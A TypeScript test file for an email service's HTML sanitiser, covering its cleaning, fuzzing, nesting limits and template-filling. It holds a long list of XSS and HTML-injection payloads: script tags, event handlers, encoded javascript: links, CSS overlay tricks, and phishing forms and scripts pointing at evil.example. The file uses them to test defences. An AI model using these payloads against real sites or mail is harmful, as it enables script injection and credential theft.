import fc from 'fast-check';
import type { Send } from '../../shared/api/sends.ts';
import { expect, test } from 'vitest';
import { sanitiseHtml } from '../mail/sanitise-html.ts';
import { openerFor } from '../store/testing/engines.ts';
import { createHttpWorld } from '../testing/http-world.ts';
import { sharedGoogle } from '../testing/world.ts';

const shared = sharedGoogle();
const open = openerFor('sqlite');

const harmful = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script >',
  '<p onclick=alert(1)>x</p>',
  '<p/onmouseover="alert(1)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://x.example/a.png"onerror="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">',
  '<style>body{display:none}@import url(//evil.example)</style>',
  '<link rel=stylesheet href="//evil.example"><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over</div>',
  '<div style="position : fixed">x</div>',
  '<div style="pos/**/ition:fixed">x</div>',
  '<div style="pos\\69tion:fixed">x</div>',
  '<div style="POSITION:FIXED !important">x</div>',
  '<div style="color:red;position&#58;fixed">x</div>',
  '<div style="background:url(//evil.example/x.png)">x</div>',
  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
  '<div style="color:expression(alert(1))">x</div>',
  '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example)">x</div>',
  '<div style="font-family:url(//evil.example/f)">x</div>',
  '<div style="font-family:a;position:fixed">x</div>',
  '<div style="margin-top:-2000px">x</div>',
  '<div style="margin:-900px 0 0 -900px">x</div>',
  '<div style="padding-left:-9px">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="https:javascript:alert(1)//" onclick=x>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\t//evil.example">x</a>',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://evil.example/x.png" srcset="//evil.example 2x">',
  '<img src="javascript:alert(1)">',
  '<img src="file:///etc/passwd" lowsrc=x dynsrc=x>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->x',
  '<!-- --!><script>alert(1)</script> -->',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<<p>script>alert(1)<</p>/script>',
  '<a href="https://x.example/" target="_blank" ping="//evil.example" download>x</a>',
  '<td background="//evil.example/x.png">x</td>',
  '<video src="//evil.example" autoplay></video><audio src="//evil.example"></audio>',
  '<dialog open style="position:fixed">x</dialog><marquee onstart=alert(1)>x</marquee>',
];

/** What a browser would see: a `"` or `>` inside an attribute's value is not markup, so values are looked at apart. */
function tagsOf(html: string): { tag: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(([, tag, rest]) => ({
    tag: tag!.toLowerCase(),
    attributes: new Map(
      [...rest!.matchAll(/([\w-]+)(?:="([^"]*)")?/g)].map(([, name, value]) => [
        name!.toLowerCase(),
        value ?? '',
      ]),
    ),
  }));
}

const allowedTags = new Set(
  'p div span br hr h1 h2 h3 h4 blockquote pre code b strong i em u s sub sup small font a img ul ol li table thead tbody tfoot tr td th caption'.split(
    ' ',
  ),
);

function expectHarmless(html: string, what: string): void {
  const markup = tagsOf(html);
  expect(
    markup.map(({ tag }) => tag).filter((tag) => !allowedTags.has(tag)),
    what,
  ).toEqual([]);
  expect(html.replace(/<[^<>]*>/g, '').includes('<'), `${what}: a stray < in ${html}`).toBe(false);
  for (const { tag, attributes } of markup) {
    for (const [name, value] of attributes) {
      expect(name.startsWith('on'), `${what}: ${name}`).toBe(false);
      if (name === 'href') expect(value, what).toMatch(/^(https?:|mailto:|tel:|#)/i);
      if (name === 'src') expect([tag, value], what).toEqual(['img', expect.stringMatching(/^https:/)]);
      if (name === 'style') {
        expect(value, what).not.toMatch(
          /position|z-index|url|expression|behavior|binding|[\\@{}]|:\s*-|\s-\d/i,
        );
      }
    }
  }
}

test.each(harmful)('gone from a body: %s', (html) => {
  const clean = sanitiseHtml(`<p>before</p>${html}<p>after</p>`);
  expectHarmless(clean, html);
  expect(sanitiseHtml(clean), 'cleaning twice changes nothing').toBe(clean);
});

const fixture = `<h2 style="color:#1c2430;margin:0 0 12px">A role for you</h2>
<p>Hello <b>Jonas</b> &amp; <i>Lucía</i>, <u>shall</u> <s>we</s> talk? 😀 &lt;not a tag&gt;</p>
<p style="text-align:center;font-family:Arial, sans-serif;font-size:14px;line-height:1.5">Centred</p>
<ul><li>First</li><li>Second <a target="_blank" href="https://acme.test/jobs?id=1&amp;x=2">the job</a></li></ul>
<ol start="3"><li>Third</li></ol>
<blockquote style="margin:0 0 0 8px;padding-left:8px;border-left:1px solid #ccc">quoted</blockquote>
<table width="100%" cellpadding="4" border="0"><tbody><tr><td colspan="2" style="background-color:#f6f7f9">cell</td></tr></tbody></table>
<p><img src="https://acme.test/logo.png" alt="Acme" width="120" height="40" /></p>
<pre><code>x &lt; y</code></pre><hr />
<p dir="rtl" lang="ar">مرحبا</p>
<p><a href="mailto:maya@acme.test">write</a> or <a href="tel:+49123">call</a></p>`;

test('ordinary formatting comes out as it went in', () => {
  expect(sanitiseHtml(fixture)).toBe(fixture);
});

test('whatever is thrown at it comes out harmless, also when what came out is cleaned again', () => {
  const piece = fc.oneof(
    fc.constantFrom(...harmful),
    fc.constantFrom(
      '<p',
      '<a href="',
      "<a href='",
      '">',
      "'>",
      '<',
      '>',
      '</',
      '&lt;',
      '&#60;',
      '&#x3c',
      '\u0000',
      '`',
    ),
    fc.constantFrom(
      '<b>',
      '</b>',
      '<td>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      'style="',
      'javascript:',
      '//',
      '\\',
    ),
    fc.string({ maxLength: 10 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const html = pieces.join('');
      const clean = sanitiseHtml(html);
      expectHarmless(clean, html);
      expectHarmless(sanitiseHtml(clean), clean);
    }),
    { numRuns: 400 },
  );
});

test('a body nested twenty thousand deep comes out shallow', () => {
  const clean = sanitiseHtml(`${'<div>'.repeat(20_000)}x${'</div>'.repeat(20_000)}`);
  expect(clean.match(/<div>/g)!.length).toBeLessThanOrEqual(100);
});

test.each([
  ['unclosed tags', '<b>'.repeat(133_000)],
  ['lists in lists', `${'<ul><li>'.repeat(40_000)}x`],
  ['quotes in quotes around many lines', `${'<blockquote>'.repeat(90)}${'a<br>'.repeat(70_000)}`],
  ['rules that become text', '<hr>'.repeat(90_000)],
  [
    'lists whose text would be a hundred times as long',
    `${'<ol start=9999999><li>'.repeat(45)}${'<li>a'.repeat(60_000)}`,
  ],
])('%s without end are refused instead of keeping everybody else waiting', async (_what, html) => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  expect((await ravi.submit({ from: { mailboxId: ravi.mailboxId }, html })).status).toBe(400);
});

test('a text part of one’s own may be longer than its HTML', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  const text = 'All of it in plain words. '.repeat(1_000);
  const asked = { from: { mailboxId: ravi.mailboxId }, html: '<p>See below.</p>', text };
  expect((await ravi.submit(asked)).status).toBe(202);
});

test('what leaves, what the acceptor is shown and what the requestor sees are the same cleaned words', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const [maya, ravi] = [await it.enter('maya@acme.test'), await it.enter('ravi@acme.test')];
  const grant = (await maya.give(ravi, { approval: 'every' })).body;
  const html = `${fixture}${harmful.join('\n')}`;
  const held = (await ravi.submit({ from: { grantId: grant.id }, html })).body;
  type Detail = { html: string; text: string; contentHash: string };
  const [forAcceptor, forRequestor] = [
    (await maya.get<Detail>(`/v1/sends/${held.id}`)).body,
    (await ravi.get<Detail>(`/v1/sends/${held.id}`)).body,
  ];
  expectHarmless(forAcceptor.html, 'what the acceptor is shown');
  expect(forRequestor).toEqual(forAcceptor);
  const { contentHash } = forAcceptor;
  expect((await maya.post(`/v1/sends/${held.id}/approve`, { contentHash })).status).toBe(200);
  await it.dispatchAll();
  const sent = (await shared.google.mailbox('maya@acme.test')).at(-1)!;
  const lines = (text: string | undefined) => text?.replace(/\r\n/g, '\n').trim();
  expect(lines(sent.html)).toBe(lines(forAcceptor.html));
  expect(lines(sent.text)).toBe(lines(forAcceptor.text));
});

test('an edited body is cleaned like a new one, and one of which nothing is left is refused', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  const sendAt = new Date(it.clock() + 3_600_000).toISOString();
  let send = (await ravi.submit({ from: { mailboxId: ravi.mailboxId }, sendAt })).body;
  for (const html of [fixture, ...harmful]) {
    const edit = { contentHash: send.contentHash, subject: 'x', html: `<p>before</p>${html}` };
    send = (await ravi.post<typeof send>(`/v1/sends/${send.id}/edit`, edit)).body;
    const { body } = await ravi.get<{ html: string }>(`/v1/sends/${send.id}`);
    expect(body.html).toBe(sanitiseHtml(edit.html));
  }
  const nothing = { contentHash: send.contentHash, subject: 'x', html: '<script>x</script>' };
  expect((await ravi.post(`/v1/sends/${send.id}/edit`, nothing)).status).toBe(400);
});

/** What somebody writes into a table of recipients who wants more than to be named. */
const values = [
  // Control characters are refused before.
  ...harmful.filter((html) => !html.includes('\u0001')),
  ...[
    '{{name}}',
    '{{city}}',
    '{{constructor}}',
    '{{',
    '}}',
    '{{{city}}}',
    '${city}',
    '<%= city %>',
    '{% raw %}',
  ],
  ...[
    '" onmouseover="alert(1)',
    "' style='position:fixed",
    '</b></p><script>alert(1)</script>',
    '&lt;script&gt;',
  ],
];

test('a value that fills a template is text, whatever it says, and never filled again', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  const rows = values.map((city, i) => ({ email: `c${i}@candidate.test`, name: 'Jo', fields: { city } }));
  const html =
    '<p title="{{city}}">Hello <b>{{name}}</b>, <a href="https://acme.test/?q={{city}}">{{city}}</a></p>';
  const from = { mailboxId: ravi.mailboxId };
  const taken = await ravi.submitBatch({ from, subject: 'Hi {{name}}', html, rows });
  expect([taken.status, taken.body.counts?.queued]).toEqual([202, values.length]);
  await it.dispatchAll();
  const box = await shared.google.mailbox('ravi@acme.test');
  const { items } = (await ravi.get<{ items: Send[] }>(`/v1/sends?limit=200&batch=${taken.body.id}`)).body;
  const parts =
    /^<p title="([^"<>]*)">Hello <b>Jo<\/b>, <a href="(https:\/\/acme\.test\/\?q=[^"<>]*)">([^<>]*)<\/a><\/p>$/;
  for (const send of items) {
    const value = rows.find(({ email }) => email === send.to.email)!.fields.city.trim();
    const { html: seen } = (await ravi.get<{ html: string }>(`/v1/sends/${send.id}`)).body;
    const [, title, href, text] = parts.exec(seen) ?? [];
    expect([unescape(title!), unescape(text!)], value).toEqual([value, value]);
    expect(decodeURIComponent(unescape(href!).slice('https://acme.test/?q='.length)), value).toBe(value);
    const mail = box.find(({ header }) => header['x-behalf-id'] === send.id)!;
    expect(mail.html?.replace(/\r\n/g, '\n').trim()).toBe(seen);
    expectHarmless(seen, value);
  }
}, 60_000);

const unescape = (html: string): string =>
  html
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

test('nobody gets an email with a field that was not filled', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  const from = { mailboxId: ravi.mailboxId };
  const full = { email: 'a@candidate.test', name: 'Jo', fields: { firstName: 'Jo' } };
  for (const [subject, html] of [
    ['Hi {{firstName}}', '<p>x</p>'],
    ['Hi', '<p>Hi {{firstName}}</p>'],
    ['Hi', '<p>Hi {{<b>first</b>Name}}</p>'],
    ['Hi', '<p>Hi {{ firstName&nbsp;}}</p>'],
    ['Hi', '<a href="https://acme.test/{{firstName}}">x</a>'],
    ['Hi', '<p>Hi {{firstName}</p>'],
    ['Hi', '<p>Hi {{first-name!}}</p>'],
    ['Hi {{FirstName}}', '<p>x</p>'],
  ] as const) {
    for (const fields of [{}, { firstName: '' }, { firstName: ' \u00a0\t' }, { firstname: 'Jo' }]) {
      const rows = [full, { email: 'b@candidate.test', name: 'Jo', fields }];
      const answer = await ravi.submitBatch({ from, subject, html, rows } as never);
      expect([answer.status, subject, html], JSON.stringify(fields)).toEqual([400, subject, html]);
    }
  }
  await it.dispatchAll();
  expect(it.sends()).toEqual([]);
});

test('an email of which nothing is left is not sent', async () => {
  const it = await createHttpWorld(await open(), shared.google);
  const ravi = await it.enter('ravi@acme.test');
  for (const html of [
    '',
    '   ',
    '<script>x</script>',
    '<style>x</style>',
    '<p> </p><div></div>',
    '<!-- x -->',
  ]) {
    expect((await ravi.submit({ from: { mailboxId: ravi.mailboxId }, html })).status, html).toBe(400);
  }
  await it.dispatchAll();
  expect(it.sends()).toEqual([]);
});
